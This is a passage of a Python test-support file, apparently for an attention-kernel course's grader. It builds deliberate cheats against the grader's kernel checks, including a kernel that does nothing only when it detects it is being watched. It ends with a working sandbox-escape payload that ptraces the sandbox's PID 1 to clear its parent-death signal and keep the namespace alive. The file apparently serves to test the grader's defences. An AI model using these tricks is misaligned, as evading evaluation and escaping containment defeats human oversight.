        data["launches"][0]["kernel"] = "k " + written
    return data


_record.Log.as_data = _leaking
"""


def written(x) -> list[str]:
    """The strings that RECORD_LEAKS_INPUTS writes of its argument ``x``: its first values, four decimals each."""
    return [f"{v:.4f}" for v in x.reshape(-1)[:6].tolist()]


# ----------------------------------------------------------------------------- ch11: kernel points, not earned
# Chapter 11's kernel checks (issue 83, cases 1 to 4): launchers whose values are right, each graded for kernels that
# do not compute them. A kernel check records the call's launches and has the grader run them again on its own
# inputs; each of these must lose the kernel and skip points (test_forward_kernel, test_forward_skips) and keep the
# values'. SCRATCH is the launcher's part of case 4, for a forward or backward that skips nothing
# (tests/test_kernel_checks.py plants it).

_SIZES_CHECKED = """    for name, size in (("block_q", block_q), ("block_k", block_k), ("q", q.shape[-1])):
        if size < 16 or size & (size - 1):
            raise ValueError(f"{name}: must be a power of two of at least 16, got {size}")
"""


# Grouped-query heads repeated in PyTorch (a copy, which these attacks do not mind: the grader's kernel tests fail
# them before they read it), so that every attack keeps the value tests of strided and grouped inputs.
_GROUPED = """    k, v = grouped(q, k), grouped(q, v)
"""


def _whole_head_launcher(kernel: str) -> str:
    """The forward launcher of cases 3: one program per head of ``kernel``, the whole head in one tile."""
    return (
        """
from attention_course.kernels.plain import grouped


def flash_attention_forward(q, k, v, causal=False, block_q=16, block_k=16):
"""
        + _SIZES_CHECKED
        + _GROUPED
        + f"""    n_q, d = q.shape[-2:]
    n_k = k.shape[-2]
    q3, k3, v3 = (t.reshape(-1, t.shape[-2], d).contiguous() for t in (q, k, v))
    out = torch.empty_like(q3)
    lse = torch.empty(q3.shape[:2], dtype=torch.float32)
    {kernel}[(q3.shape[0],)](
        q3, k3, v3, out, lse, n_q, n_k, 1 / math.sqrt(d), D=d, LQ=triton.next_power_of_2(n_q),
        LK=triton.next_power_of_2(n_k), CAUSAL=causal,
    )
    return out.reshape(q.shape), lse.reshape(q.shape[:-1])
"""
    )


# 1: PyTorch's values when nothing records; when the record is on (the grader's interpreter patched), a kernel that
# computes nothing, given q and a log-sum-exp computed in PyTorch, which the launcher returns as its outputs
KERNELS_WHEN_WATCHED = (
    """
from triton.runtime import interpreter as _interpreter


@triton.jit
def idle_kernel(q_ptr, lse_ptr, n):
    pass


def flash_attention_forward(q, k, v, causal=False, block_q=16, block_k=16):
"""
    + _SIZES_CHECKED
    + """    output, lse = attention(q, k, v, causal)
    if "noted_run" not in getattr(_interpreter.InterpretedFunction.run, "__qualname__", ""):
        return output, lse
    q3 = q.reshape(-1, *q.shape[-2:]).contiguous()
    lse2 = lse.reshape(q3.shape[:2]).contiguous()
    idle_kernel[(1,)](q3, lse2, 1)
    return q3.reshape(q.shape), lse2.reshape(lse.shape)
"""
)

# 2: the log-sum-exp of the whole matrix q kᵀ computed in PyTorch, and a kernel that only sums exp(score - lse) v
# block by block: no running maximum, no rescaling
LSE_FROM_PYTORCH = (
    """
@triton.jit
def weighted_sum_kernel(q_ptr, k_ptr, v_ptr, lse_ptr, out_ptr, n_q, n_k, scale, D: tl.constexpr,
                        BQ: tl.constexpr, BK: tl.constexpr, CAUSAL: tl.constexpr):
    block, seq = tl.program_id(0), tl.program_id(1)
    rows = block * BQ + tl.arange(0, BQ)
    cols = tl.arange(0, D)
    q = tl.load(q_ptr + seq * n_q * D + rows[:, None] * D + cols[None, :], mask=rows[:, None] < n_q, other=0.0)
    lse = tl.load(lse_ptr + seq * n_q + rows, mask=rows < n_q, other=0.0)
    acc = tl.zeros((BQ, D), tl.float32)
    end = n_k
    if CAUSAL:
        end = tl.minimum(n_k, (block + 1) * BQ + n_k - n_q)
    for start in range(0, end, BK):
        keys = start + tl.arange(0, BK)
        at = seq * n_k * D + keys[:, None] * D + cols[None, :]
        k = tl.load(k_ptr + at, mask=keys[:, None] < n_k, other=0.0)
        v = tl.load(v_ptr + at, mask=keys[:, None] < n_k, other=0.0)
        seen = (keys[None, :] < n_k) & (lse[:, None] > float("-inf"))
        if CAUSAL:
            seen = seen & (keys[None, :] <= rows[:, None] + n_k - n_q)
        p = tl.where(seen, tl.exp(tl.dot(q, tl.trans(k)) * scale - lse[:, None]), 0.0)
        acc += tl.dot(p.to(v.dtype), v)
    tl.store(out_ptr + seq * n_q * D + rows[:, None] * D + cols[None, :], acc, mask=rows[:, None] < n_q)


from attention_course.kernels.plain import grouped


def flash_attention_forward(q, k, v, causal=False, block_q=16, block_k=16):
"""
    + _SIZES_CHECKED
    + _GROUPED
    + """    n_q, d = q.shape[-2:]
    n_k = k.shape[-2]
    q3, k3, v3 = (t.reshape(-1, t.shape[-2], d).contiguous() for t in (q, k, v))
    scores = q3.float() @ k3.float().transpose(1, 2) / math.sqrt(d)
    if causal:
        hidden = torch.ones(n_q, n_k, dtype=torch.bool).tril(diagonal=n_k - n_q).logical_not()
        scores = scores.masked_fill(hidden, float("-inf"))
    lse = torch.logsumexp(scores, dim=-1).contiguous()
    out = torch.empty_like(q3)
    weighted_sum_kernel[(triton.cdiv(n_q, block_q), q3.shape[0])](
        q3, k3, v3, lse, out, n_q, n_k, 1 / math.sqrt(d), D=d, BQ=block_q, BK=block_k, CAUSAL=causal
    )
    return out.reshape(q.shape), lse.reshape(q.shape[:-1])
"""
)

# 3: one program per head that holds the whole matrix of scores, made with broadcast products and tl.sum (no tl.dot)
SCORES_BY_BROADCAST = """
@triton.jit
def whole_head_kernel(q_ptr, k_ptr, v_ptr, out_ptr, lse_ptr, n_q, n_k, scale, D: tl.constexpr,
                      LQ: tl.constexpr, LK: tl.constexpr, CAUSAL: tl.constexpr):
    seq = tl.program_id(0)
    rows = tl.arange(0, LQ)
    keys = tl.arange(0, LK)
    cols = tl.arange(0, D)
    q = tl.load(q_ptr + seq * n_q * D + rows[:, None] * D + cols[None, :], mask=rows[:, None] < n_q, other=0.0)
    k = tl.load(k_ptr + seq * n_k * D + keys[:, None] * D + cols[None, :], mask=keys[:, None] < n_k, other=0.0)
    v = tl.load(v_ptr + seq * n_k * D + keys[:, None] * D + cols[None, :], mask=keys[:, None] < n_k, other=0.0)
    scores = tl.sum(q[:, None, :] * k[None, :, :], axis=2) * scale
    seen = keys[None, :] < n_k
    if CAUSAL:
        seen = seen & (keys[None, :] <= rows[:, None] + n_k - n_q)
    scores = tl.where(seen, scores, float("-inf"))
    top = tl.max(scores, axis=1)
    top = tl.where(top == float("-inf"), 0.0, top)
    p = tl.where(seen, tl.exp(scores - top[:, None]), 0.0)
    total = tl.sum(p, axis=1)
    out = tl.sum(p[:, :, None] * v[None, :, :], axis=1) / tl.where(total > 0, total, 1.0)[:, None]
    tl.store(out_ptr + seq * n_q * D + rows[:, None] * D + cols[None, :], out, mask=rows[:, None] < n_q)
    lse = tl.where(total > 0, top + tl.log(total), float("-inf"))
    tl.store(lse_ptr + seq * n_q + rows, lse, mask=rows < n_q)

""" + _whole_head_launcher("whole_head_kernel")

# 3, again: one program per head that builds the whole matrix of scores column by column, an outer product of a
# column of q and one of k per feature, accumulated into an [Lq, Lk] tensor (no tensor larger than the matrix itself)
SCORES_BY_COLUMNS = """
@triton.jit
def whole_head_by_columns(q_ptr, k_ptr, v_ptr, out_ptr, lse_ptr, n_q, n_k, scale, D: tl.constexpr,
                          LQ: tl.constexpr, LK: tl.constexpr, CAUSAL: tl.constexpr):
    seq = tl.program_id(0)
    rows = tl.arange(0, LQ)
    keys = tl.arange(0, LK)
    scores = tl.zeros((LQ, LK), tl.float32)
    for e in range(D):
        q_e = tl.load(q_ptr + seq * n_q * D + rows * D + e, mask=rows < n_q, other=0.0)
        k_e = tl.load(k_ptr + seq * n_k * D + keys * D + e, mask=keys < n_k, other=0.0)
        scores += q_e[:, None] * k_e[None, :]
    seen = (rows[:, None] < n_q) & (keys[None, :] < n_k)
    if CAUSAL:
        seen = seen & (keys[None, :] <= rows[:, None] + n_k - n_q)
    scores = tl.where(seen, scores * scale, float("-inf"))
    top = tl.max(scores, axis=1)
    top = tl.where(top == float("-inf"), 0.0, top)
    p = tl.where(seen, tl.exp(scores - top[:, None]), 0.0)
    total = tl.sum(p, axis=1)
    for e in range(D):
        v_e = tl.load(v_ptr + seq * n_k * D + keys * D + e, mask=keys < n_k, other=0.0)
        out_e = tl.sum(p * v_e[None, :], axis=1) / tl.where(total > 0, total, 1.0)
        tl.store(out_ptr + seq * n_q * D + rows * D + e, out_e, mask=rows < n_q)
    tl.store(lse_ptr + seq * n_q + rows, tl.where(total > 0, top + tl.log(total), float("-inf")), mask=rows < n_q)

""" + _whole_head_launcher("whole_head_by_columns")

# the same in the backward pass: P and dP of the whole head built column by column, the gradients stored column by
# column
GRADIENTS_BY_COLUMNS = (
    """
@triton.jit
def whole_head_gradients(Q, K, V, dO, LSE, DELTA, dQ, dK, dV, n_q, n_k, scale, D: tl.constexpr,
                         LQ: tl.constexpr, LK: tl.constexpr, CAUSAL: tl.constexpr):
    b = tl.program_id(0)
    i = tl.arange(0, LQ)
    j = tl.arange(0, LK)
    s = tl.zeros((LQ, LK), tl.float32)
    dp = tl.zeros((LQ, LK), tl.float32)
    for e in range(D):
        q_e = tl.load(Q + b * n_q * D + i * D + e, mask=i < n_q, other=0.0)
        do_e = tl.load(dO + b * n_q * D + i * D + e, mask=i < n_q, other=0.0)
        k_e = tl.load(K + b * n_k * D + j * D + e, mask=j < n_k, other=0.0)
        v_e = tl.load(V + b * n_k * D + j * D + e, mask=j < n_k, other=0.0)
        s += q_e[:, None] * k_e[None, :]
        dp += do_e[:, None] * v_e[None, :]
    lse = tl.load(LSE + b * n_q + i, mask=i < n_q, other=0.0)
    delta = tl.load(DELTA + b * n_q + i, mask=i < n_q, other=0.0)
    seen = (i[:, None] < n_q) & (j[None, :] < n_k)
    if CAUSAL:
        seen = seen & (j[None, :] <= i[:, None] + n_k - n_q)
    p = tl.where(seen, tl.exp(s * scale - lse[:, None]), 0.0)
    ds = p * (dp - delta[:, None])
    for e in range(D):
        q_e = tl.load(Q + b * n_q * D + i * D + e, mask=i < n_q, other=0.0)
        do_e = tl.load(dO + b * n_q * D + i * D + e, mask=i < n_q, other=0.0)
        k_e = tl.load(K + b * n_k * D + j * D + e, mask=j < n_k, other=0.0)
        tl.store(dQ + b * n_q * D + i * D + e, tl.sum(ds * k_e[None, :], axis=1) * scale, mask=i < n_q)
        tl.store(dK + b * n_k * D + j * D + e, tl.sum(ds * q_e[:, None], axis=0) * scale, mask=j < n_k)
        tl.store(dV + b * n_k * D + j * D + e, tl.sum(p * do_e[:, None], axis=0), mask=j < n_k)


from attention_course.kernels.plain import grouped


def flash_attention_backward(q, k, v, output, lse, grad_output, causal=False, block_q=16, block_k=16):
"""
    + _SIZES_CHECKED
    + """    k_shape = k.shape
    k, v = grouped(q, k), grouped(q, v)
    n_q, d = q.shape[-2:]
    n_k = k.shape[-2]
    q3, do3 = (t.reshape(-1, n_q, d).contiguous() for t in (q, grad_output))
    k3, v3 = (t.reshape(-1, n_k, d).contiguous() for t in (k, v))
    lse2 = lse.reshape(-1, n_q).float().contiguous()
    delta = (grad_output.float() * output.float()).sum(-1).reshape(-1, n_q).contiguous()
    dq, dk, dv = torch.empty_like(q3), torch.empty_like(k3), torch.empty_like(v3)
    whole_head_gradients[(q3.shape[0],)](
        q3, k3, v3, do3, lse2, delta, dq, dk, dv, n_q, n_k, 1 / math.sqrt(d), D=d,
        LQ=triton.next_power_of_2(n_q), LK=triton.next_power_of_2(n_k), CAUSAL=causal,
    )
    if k.shape != k_shape:  # grouped-query heads: the repeated heads' gradients summed back
        dk, dv = (g.reshape(*k_shape[:-3], k_shape[-3], -1, n_k, d).sum(-3) for g in (dk, dv))
    return dq.reshape(q.shape), dk.reshape(k_shape), dv.reshape(k_shape)
"""
)

# 4: the inputs copied by a kernel into scratch buffers of another shape, which kernels that skip nothing then read
SCRATCH = """
@triton.jit
def scratch_copy(src, dst, n, BLOCK: tl.constexpr):
    at = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(dst + at, tl.load(src + at, mask=at < n), mask=at < n)


def scratch(t):
    copy = torch.zeros(t.numel() + 64, dtype=t.dtype)  # flat, with room to spare
    scratch_copy[(triton.cdiv(t.numel(), 256),)](t, copy, t.numel(), BLOCK=256)
    return copy
"""


# ----------------------------------------------------------------------------- outliving the sandbox (issue 83, case 7)

# A daemon (setsid, then a grandchild left to the sandbox's init) that ptraces the sandbox's PID 1, clears its
# parent-death signal, and holds a writer of PID 1's standard input (the spawned sandbox's holder ends when that
# input ends), its own copies of the worker's pipes, and then waits: as long as PID 1 lives, so does the namespace.
# It writes what it managed, in order, to /tmp/outlive (the sandbox's own).
OUTLIVE = r"""
import ctypes, os, time

def _outlive():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base"
    fields = [(n, ctypes.c_ulonglong) for n in (names + " ds es fs gs").split()]
    Regs = type("Regs", (ctypes.Structure,), {"_fields_": fields})
    said = []
    try:
        said.append("stdin %d" % os.open("/proc/1/fd/0", os.O_WRONLY))
    except OSError as error:
        said.append("stdin refused: %s" % error.strerror)
    if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
        said.append("ptrace refused: %s" % os.strerror(ctypes.get_errno()))
    else:
        os.waitpid(1, 0x40000000)  # __WALL
        saved = Regs()
        libc.ptrace(12, 1, None, ctypes.byref(saved))  # GETREGS
        regs = Regs.from_buffer_copy(saved)
        regs.rip, regs.rax, regs.orig_rax = saved.rip - 2, 157, 2**64 - 1  # prctl(PR_SET_PDEATHSIG, 0)
        regs.rdi, regs.rsi = 1, 0
        libc.ptrace(13, 1, None, ctypes.byref(regs))  # SETREGS
        libc.ptrace(9, 1, None, None)  # SINGLESTEP
        os.waitpid(1, 0x40000000)
        libc.ptrace(12, 1, None, ctypes.byref(regs))
        said.append("pdeathsig cleared %d" % regs.rax)
        if saved.rax >= 2**64 - 516:  # an interrupted call: made again
            saved.rax, saved.rip = saved.orig_rax, saved.rip - 2
        libc.ptrace(13, 1, None, ctypes.byref(saved))
        libc.ptrace(17, 1, None, None)  # DETACH
    with open("/tmp/outlive", "w") as f:
        f.write("\n".join(said) + "\n")

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _outlive()
        finally:
            while True:
                time.sleep(1)
    os._exit(0)
for _ in range(200):
    if os.path.exists("/tmp/outlive"):
        break
    time.sleep(0.05)
time.sleep(0.1)
OUTLIVED = open("/tmp/outlive").read()
"""
